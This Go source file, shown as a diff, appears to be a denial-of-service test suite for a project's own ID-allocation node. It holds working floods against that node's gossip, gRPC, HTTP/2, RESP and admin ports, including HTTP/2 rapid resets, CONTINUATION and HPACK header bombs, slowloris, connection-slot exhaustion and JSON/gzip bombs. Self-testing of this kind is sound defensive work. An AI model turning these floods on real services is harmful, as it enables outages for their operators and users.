@@ -1,0 +1,464 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"net"
+	"strings"
+	"time"
+
+	"golang.org/x/net/http2"
+)
+
+// attack is one entry of the suite.
+type attack struct {
+	name    string
+	sends   string // for the table
+	sources int    // addresses it comes from; 0 is one
+	args    []string
+	short   bool   // part of the short profile
+	known   string // what is not fixed yet: its failure is reported and does not fail the run
+	run     func(context.Context, *attacker)
+}
+
+// conns runs f on n connections at once.
+func conns(n int, f func(*attacker, context.Context) error) func(context.Context, *attacker) {
+	return func(ctx context.Context, a *attacker) {
+		each(ctx, n, func(ctx context.Context) error { return f(a, ctx) })
+	}
+}
+
+// attacks are all there are, in the order of the table.
+var attacks = []attack{
+	{name: "gossip-sealed", short: true, sends: "64 connections to the gossip port, each a sealed stream that announces 20 MiB and sends zeros",
+		run: conns(64, gossip(10, binary.BigEndian.AppendUint32(nil, 20<<20), 20<<20))},
+	{name: "gossip-clear", sends: "64 connections to the gossip port of a node without a key, each a list of a million members in 49 bytes", args: []string{"--gossip.key-file", ""},
+		run: conns(64, gossip(6, []byte("\x83\xa5Nodes\xd2\x00\x0f\xff\xff\xacUserStateLen\x00\xa4Join\xc3"), 0))},
+	{name: "gossip-idle", sends: "400 connections to the gossip port that send a label and nothing else", run: conns(400, gossip(-1, nil, 0))},
+	{name: "gossip-packets", sends: "forged packets to the gossip port as fast as they go", run: conns(2, gossipPackets)},
+
+	{name: "grpc-unfinished", known: "messages that do not end are held without a limit", short: true, sends: "30 gRPC connections, each with 100 messages of 4 MiB begun and not ended, without a token", run: conns(30, grpcUnfinished)},
+	{name: "stream-unread", known: "answers that are not read are held without a limit", short: true, sends: "30 connections of a caller with a token, each with 100 ID streams of requests whose answers are not read", run: conns(30, streamUnread)},
+	{name: "http2-bodies", known: "bodies that do not end are held without a limit", short: true, sends: "200 HTTP/2 connections, each with 250 bodies begun and not ended, without a token", run: conns(200, http2Bodies)},
+	{name: "resp-unfinished", known: "68 KiB a connection", sends: "3,000 RESP connections, each with 64 KiB of a command that does not end", run: conns(3000, respUnfinished)},
+
+	{name: "resets-1", known: "resets count for no limit", sends: "HTTP/2 requests without a token, each reset at once, on 1 gRPC connection", run: conns(1, resets)},
+	{name: "resets-2", known: "resets count for no limit", sends: "the same on 2 connections", run: conns(2, resets)},
+	{name: "resets-4", known: "resets count for no limit", sends: "the same on 4 connections", run: conns(4, resets)},
+	{name: "resets-8", known: "resets count for no limit", short: true, sends: "the same on 8 connections", run: conns(8, resets)},
+	{name: "resets-http", known: "resets count for no limit", sends: "the same on 8 connections to the HTTP port", run: conns(8, resetsHTTP)},
+	{name: "settings", known: "control frames count for no limit", short: true, sends: "SETTINGS frames on 8 gRPC connections, whose acks are not read", run: conns(8, settings)},
+	{name: "pings", known: "control frames count for no limit", sends: "PING frames on 8 gRPC connections, whose acks are not read", run: conns(8, pings)},
+	{name: "settings-http", known: "control frames count for no limit", sends: "SETTINGS frames on 8 connections to the HTTP port, whose acks are not read", run: conns(8, settingsHTTP)},
+	{name: "malformed-headers", known: "malformed requests count for no limit", sends: "requests with malformed header fields on 8 gRPC connections", run: conns(8, malformedHeaders)},
+	{name: "continuation", known: "malformed requests count for no limit", sends: "header blocks of endless CONTINUATION frames on 8 gRPC connections", run: conns(8, continuation)},
+	{name: "header-bombs", known: "malformed requests count for no limit", sends: "header fields of 1 MiB, and HPACK references to them, on 8 gRPC connections", run: conns(8, headerBombs)},
+
+	{name: "wrong-auth", known: "failures count for no limit", short: true, sends: "pipelined AUTH with a wrong token on 8 RESP connections", run: conns(8, resp("AUTH wrong-token-wrong-token\r\n"))},
+	{name: "malformed-next", known: "failures count for no limit", sends: "pipelined ID.NEXT of a caller with a token, with arguments that are none, on 8 RESP connections", run: conns(8, malformedNext)},
+	{name: "wrong-token", known: "failures count for no limit", sends: "gRPC calls with a wrong token on 8 connections", run: conns(8, wrongToken)},
+	{name: "wrong-token-http", known: "failures count for no limit", sends: "HTTP/1.1 requests with a wrong token, pipelined, on 8 connections",
+		run: conns(8, pipelined(func(a *attacker) string { return a.HTTP }, true, "POST /v1/ids?count=1 HTTP/1.1\r\nHost: node\r\nAuthorization: Bearer wrong\r\nContent-Length: 0\r\n\r\n"))},
+	{name: "metrics", known: "scrapes count for no limit", short: true, sends: "pipelined GET /metrics on 16 connections to the admin port",
+		run: conns(16, pipelined(func(a *attacker) string { return a.Admin }, false, "GET /metrics HTTP/1.1\r\nHost: node\r\n\r\n"))},
+	{name: "handshakes", known: "connections count for no source", sends: "TLS handshakes, each on a new connection, 8 at a time", run: conns(8, handshakes)},
+
+	{name: "slots-grpc", known: "one address may take all connections", short: true, sends: "5,000 TLS connections to the gRPC port that answer pings and call nothing", run: conns(5000, slotsGRPC)},
+	{name: "slots-http", known: "one address may take all connections", sends: "5,000 TLS connections to the HTTP port that answer pings and request nothing", run: conns(5000, slotsHTTP)},
+	{name: "slots-resp", known: "one address may take all connections", sends: "5,000 TLS connections to the RESP port that send nothing", run: conns(5000, slotsRESP)},
+	{name: "slots-admin", known: "one address may take all connections", short: true, sends: "5,000 connections to the admin port that send a request line every second and end none", run: conns(5000, slotsAdmin)},
+	{name: "slots-sources", known: "connections without a call stay", sends: "5,000 connections to the gRPC port as above, from 200 addresses", sources: 200, run: conns(5000, slotsGRPC)},
+	{name: "half-open", sends: "5,000 connections to the HTTP port that begin a TLS handshake and stop", run: conns(5000, halfOpen)},
+	{name: "slowloris", sends: "2,000 HTTP/1.1 requests that get a header field a second", run: conns(2000, slowloris)},
+	{name: "json-bombs", sends: "HTTP/1.1 requests with bodies of nested JSON and of gzip, on 16 connections", run: conns(16, jsonBombs)},
+}
+
+// gossip opens a stream with a label and a message of a kind.
+func gossip(kind int, head []byte, size int) func(*attacker, context.Context) error {
+	return func(a *attacker, ctx context.Context) error {
+		conn, err := a.dial(ctx, a.Gossip)
+		if err != nil {
+			return err
+		}
+		defer conn.Close()
+		b := append([]byte{244, byte(len(a.Label))}, a.Label...)
+		if kind >= 0 {
+			b = append(append(b, byte(kind)), head...)
+		}
+		_, err = conn.Write(b)
+		zeros := make([]byte, 64<<10)
+		for left := size; left > 0 && err == nil; left -= len(zeros) {
+			_, err = conn.Write(zeros)
+		}
+		a.units.Add(1)
+		if err == nil {
+			err = hold(ctx, conn)
+		}
+		return err
+	}
+}
+
+func gossipPackets(a *attacker, ctx context.Context) error {
+	conn, err := net.Dial("udp", a.Gossip)
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	b := append(append([]byte{244, byte(len(a.Label))}, a.Label...), make([]byte, 600)...)
+	b[2+len(a.Label)] = 1 // the version of the seal
+	for ctx.Err() == nil && a.limit.WaitN(ctx, len(b)) == nil {
+		_, _ = conn.Write(b)
+		a.units.Add(1)
+		a.bytes.Add(int64(len(b)))
+	}
+	return nil
+}
+
+func grpcUnfinished(a *attacker, ctx context.Context) error {
+	c, err := a.h2To(ctx, a.GRPC, true)
+	if err != nil {
+		return err
+	}
+	defer c.close()
+	var streams []uint32
+	for range 100 {
+		id, err := c.call("Allocate", "")
+		if err != nil {
+			return err
+		}
+		// A message of 4 MiB less a little, which is not compressed.
+		if _, err := c.write(id, binary.BigEndian.AppendUint32([]byte{0}, 4<<20-64)); err != nil {
+			return err
+		}
+		streams = append(streams, id)
+	}
+	return c.fill(streams)
+}
+
+// fill sends on all streams what their windows allow, forever.
+func (c *h2) fill(streams []uint32) error {
+	for {
+		moved := 0
+		for _, id := range streams {
+			n, err := c.data(id, 16<<10)
+			if err != nil {
+				return err
+			}
+			moved += n
+		}
+		if err := c.flush(); err != nil {
+			return err
+		}
+		if moved == 0 {
+			if err := c.room(); err != nil {
+				return err
+			}
+		}
+	}
+}
+
+// request is a message of an ID stream that asks for 1 ID.
+var request = []byte{0, 0, 0, 0, 6, 0x08, 1, 0x12, 2, 0x08, 1}
+
+func streamUnread(a *attacker, ctx context.Context) error {
+	c, err := a.h2To(ctx, a.GRPC, true)
+	if err != nil {
+		return err
+	}
+	defer c.close()
+	var streams []uint32
+	for range 100 {
+		id, err := c.call("AllocateStream", a.Token)
+		if err != nil {
+			return err
+		}
+		streams = append(streams, id)
+	}
+	many := bytes.Repeat(request, 1024)
+	for {
+		moved := 0
+		for _, id := range streams {
+			c.mu.Lock()
+			fits := min(c.windows[id], c.conWin) >= int64(len(many))
+			c.mu.Unlock()
+			if !fits {
+				continue
+			}
+			n, err := c.write(id, many)
+			if err != nil {
+				return err
+			}
+			moved += n
+		}
+		if err := c.flush(); err != nil {
+			return err
+		}
+		if moved == 0 {
+			if err := c.room(); err != nil {
+				return err
+			}
+		}
+	}
+}
+
+func http2Bodies(a *attacker, ctx context.Context) error {
+	c, err := a.h2To(ctx, a.HTTP, true)
+	if err != nil {
+		return err
+	}
+	defer c.close()
+	var streams []uint32
+	for range 250 {
+		id, err := c.open(false, ":method", "POST", ":scheme", "https", ":path", "/v1/ids", ":authority", "node", "content-type", "application/json")
+		if err != nil {
+			return err
+		}
+		streams = append(streams, id)
+	}
+	return c.fill(streams)
+}
+
+func respUnfinished(a *attacker, ctx context.Context) error {
+	conn, err := a.dialTLS(ctx, a.RESP)
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	if _, err := conn.Write(append([]byte("*2\r\n$7\r\nID.NEXT\r\n$65000\r\n"), make([]byte, 64000)...)); err != nil {
+		return err
+	}
+	a.units.Add(1)
+	return hold(ctx, conn)
+}
+
+// flood opens a connection, does f again and again, and reads nothing.
+func flood(addr func(*attacker) string, read bool, f func(*h2) error) func(*attacker, context.Context) error {
+	return func(a *attacker, ctx context.Context) error {
+		c, err := a.h2To(ctx, addr(a), read)
+		if err != nil {
+			return err
+		}
+		defer c.close()
+		for ctx.Err() == nil {
+			if err := f(c); err != nil {
+				return err
+			}
+		}
+		return nil
+	}
+}
+
+func toGRPC(a *attacker) string { return a.GRPC }
+func toHTTP(a *attacker) string { return a.HTTP }
+
+func reset(c *h2) error {
+	id, err := c.call("Allocate", "")
+	if err != nil {
+		return err
+	}
+	return c.do(func(fr *http2.Framer) error {
+		delete(c.windows, id)
+		return fr.WriteRSTStream(id, http2.ErrCodeCancel)
+	})
+}
+
+var (
+	resets       = flood(toGRPC, true, reset)
+	resetsHTTP   = flood(toHTTP, true, reset)
+	settings     = flood(toGRPC, false, func(c *h2) error { return c.do(func(fr *http2.Framer) error { return fr.WriteSettings() }) })
+	settingsHTTP = flood(toHTTP, false, func(c *h2) error { return c.do(func(fr *http2.Framer) error { return fr.WriteSettings() }) })
+	pings        = flood(toGRPC, false, func(c *h2) error { return c.do(func(fr *http2.Framer) error { return fr.WritePing(false, [8]byte{}) }) })
+
+	malformedHeaders = flood(toGRPC, true, func(c *h2) error {
+		_, err := c.open(true, ":method", "POST", "UPPER", "case", ":path", "after", "connection", "close")
+		return err
+	})
+	wrongToken = flood(toGRPC, true, func(c *h2) error {
+		id, err := c.call("Allocate", "allocator_WRONGWRONGWRONGWRONGWRONG1")
+		if err != nil {
+			return err
+		}
+		return c.do(func(fr *http2.Framer) error {
+			delete(c.windows, id)
+			return fr.WriteData(id, true, []byte{0, 0, 0, 0, 2, 0x08, 1})
+		})
+	})
+	headerBombs = flood(toGRPC, true, func(c *h2) error {
+		fields := []string{":method", "POST", ":scheme", "https", ":path", "/", ":authority", "node"}
+		big := strings.Repeat("x", 4000)
+		for range 2000 { // of one byte each, once it is in the table
+			fields = append(fields, "x-bomb", big)
+		}
+		_, err := c.open(true, fields...)
+		return err
+	})
+)
+
+func continuation(a *attacker, ctx context.Context) error {
+	c, err := a.h2To(ctx, a.GRPC, true)
+	if err != nil {
+		return err
+	}
+	defer c.close()
+	if err := c.do(func(fr *http2.Framer) error {
+		return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}})
+	}); err != nil {
+		return err
+	}
+	part := append([]byte{0x10, 1, 'x', 0x7f, 0x81, 0x1f}, bytes.Repeat([]byte{'y'}, 4096)...)
+	for ctx.Err() == nil {
+		if err := c.do(func(fr *http2.Framer) error { return fr.WriteContinuation(1, false, part) }); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// resp sends an inline command again and again, many at once.
+func resp(command string) func(*attacker, context.Context) error {
+	return func(a *attacker, ctx context.Context) error {
+		conn, err := a.dialTLS(ctx, a.RESP)
+		if err != nil {
+			return err
+		}
+		defer conn.Close()
+		return a.repeat(ctx, conn, []byte(strings.Repeat(command, 512)), 512, true)
+	}
+}
+
+func malformedNext(a *attacker, ctx context.Context) error {
+	conn, err := a.dialTLS(ctx, a.RESP)
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	if _, err := fmt.Fprintf(conn, "AUTH %s\r\n", a.Token); err != nil {
+		return err
+	}
+	return a.repeat(ctx, conn, []byte(strings.Repeat("ID.NEXT COUNT x\r\n", 512)), 512, true)
+}
+
+// pipelined sends a request again and again, 16 at once.
+func pipelined(addr func(*attacker) string, secure bool, req string) func(*attacker, context.Context) error {
+	return func(a *attacker, ctx context.Context) error {
+		var conn net.Conn
+		var err error
+		if secure {
+			conn, err = a.dialTLS(ctx, addr(a), "http/1.1")
+		} else {
+			conn, err = a.dial(ctx, addr(a))
+		}
+		if err != nil {
+			return err
+		}
+		defer conn.Close()
+		return a.repeat(ctx, conn, []byte(strings.Repeat(req, 16)), 16, true)
+	}
+}
+
+func handshakes(a *attacker, ctx context.Context) error {
+	conn, err := a.dialTLS(ctx, a.GRPC, "h2")
+	if err != nil {
+		return err
+	}
+	a.units.Add(1)
+	return conn.Close()
+}
+
+func slots(addr func(*attacker) string) func(*attacker, context.Context) error {
+	return func(a *attacker, ctx context.Context) error {
+		c, err := a.h2To(ctx, addr(a), false)
+		if err != nil {
+			return err
+		}
+		defer c.close()
+		a.units.Add(1)
+		c.read() // until it ends
+		return errors.New("closed")
+	}
+}
+
+var (
+	slotsGRPC = slots(toGRPC)
+	slotsHTTP = slots(toHTTP)
+)
+
+func slotsRESP(a *attacker, ctx context.Context) error {
+	conn, err := a.dialTLS(ctx, a.RESP)
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	a.units.Add(1)
+	return hold(ctx, conn)
+}
+
+// slowly sends a line a second on a connection.
+func (a *attacker) slowly(ctx context.Context, conn net.Conn, line string) error {
+	a.units.Add(1)
+	for ctx.Err() == nil {
+		if _, err := conn.Write([]byte(line)); err != nil {
+			return err
+		}
+		select {
+		case <-ctx.Done():
+		case <-time.After(time.Second):
+		}
+	}
+	return nil
+}
+
+func slotsAdmin(a *attacker, ctx context.Context) error {
+	conn, err := a.dial(ctx, a.Admin)
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	if _, err := conn.Write([]byte("GET /livez HTTP/1.1\r\nHost: node\r\n")); err != nil {
+		return err
+	}
+	return a.slowly(ctx, conn, "X-Slow: x\r\n")
+}
+
+func halfOpen(a *attacker, ctx context.Context) error {
+	conn, err := a.dial(ctx, a.HTTP)
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	if _, err := conn.Write([]byte{22, 3, 1, 2, 0, 1, 0, 1, 0xfc}); err != nil { // a ClientHello of 508 bytes that ends here
+		return err
+	}
+	a.units.Add(1)
+	return hold(ctx, conn)
+}
+
+func slowloris(a *attacker, ctx context.Context) error {
+	conn, err := a.dialTLS(ctx, a.HTTP, "http/1.1")
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	if _, err := conn.Write([]byte("POST /v1/ids HTTP/1.1\r\nHost: node\r\n")); err != nil {
+		return err
+	}
+	return a.slowly(ctx, conn, "X-Slow: x\r\n")
+}
+
+func jsonBombs(a *attacker, ctx context.Context) error {
+	conn, err := a.dialTLS(ctx, a.HTTP, "http/1.1")
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	body := strings.Repeat(`{"a":[`, 100_000)
+	var b bytes.Buffer
+	for _, encoding := range []string{"identity", "gzip"} {
+		fmt.Fprintf(&b, "POST /v1/ids HTTP/1.1\r\nHost: node\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Encoding: %s\r\nContent-Length: %d\r\n\r\n%s",
+			a.Token, encoding, len(body), body)
+	}
+	return a.repeat(ctx, conn, b.Bytes(), 2, true)
+}
